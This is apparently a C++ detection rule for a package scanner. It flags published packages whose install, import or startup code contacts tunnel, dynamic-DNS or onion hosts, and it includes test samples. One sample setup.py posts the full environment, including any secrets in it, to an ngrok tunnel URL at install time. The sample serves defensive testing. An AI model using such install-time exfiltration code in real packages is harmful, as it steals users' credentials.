#include "rules/conditions.h"
#include "rules/rule.h"

namespace assay::rules {
namespace {

Severity severity_of(const Action& action) {
  switch (moment_of(action)) {
    case Moment::install:
    case Moment::startup: return Severity::critical;
    case Moment::import:
      return outflow(action).any(secrets | identity | stores) ? Severity::critical : Severity::high;
    default: return Severity::medium;
  }
}

bool is_hidden(HostKind kind) {
  return kind == HostKind::tunnel || kind == HostKind::dynamic_name || kind == HostKind::onion;
}

void check(const Facts& facts, Findings& findings) {
  for (const Action& action : facts.actions) {
    if (!is_network(action.act) || !is_shipped(action)) continue;
    const Destination destination = destination_of(action.target);
    // Without a constant in front of it, the suffix is the service that a tunnelling tool is for.
    if (!is_hidden(destination.kind) || destination.host.starts_with("api.")) continue;
    findings.add(severity_of(action), action.where,
                 sentence("talks to " + std::string(to_string(destination.kind)) + ", " +
                              shown_target(action) + ",",
                          action),
                 action.steps);
  }
}

}  // namespace

extern constinit const Rule contacts_private_tunnel = {
    .id = "contacts-private-tunnel",
    .title = "The package talks to a tunnel, a dynamic name or an onion service",
    .why =
        "These names lead to a machine that somebody switches on and off at home, or that "
        "hides where it is. Nothing published for others can depend on them.",
    .harmless_when =
        "A tunnelling tool that opens a tunnel to its user's own machine: its host "
        "is computed, not written down.",
    .severity = Severity::critical,
    .check = check,
};

#ifdef RULE_SAMPLES
constexpr Sample samples[] = {
    {.name = "a setup script posts to a tunnel", .expect = "setup.py:5", .bundle = R"(==> PKG-INFO
Metadata-Version: 2.1
Name: widget
Version: 1.0.0
==> setup.py
import os
import urllib.request
from setuptools import setup
data = str(dict(os.environ)).encode()
urllib.request.urlopen("https://0000-widget.ngrok-free.app/collect", data=data)
setup(name="widget", version="1.0.0")
)"},
    {.name = "a tunnelling client opens what its user asks for",
     .expect = silent,
     .bundle = R"(==> package.json
{"name": "widget", "version": "1.0.0", "main": "index.js"}
==> index.js
const https = require("https");
exports.open = (name) => https.get(`https://tunnel.example.test/?new=${name}`);
)"},
};
extern const std::span<const Sample> contacts_private_tunnel_samples = samples;
#endif

}  // namespace assay::rules
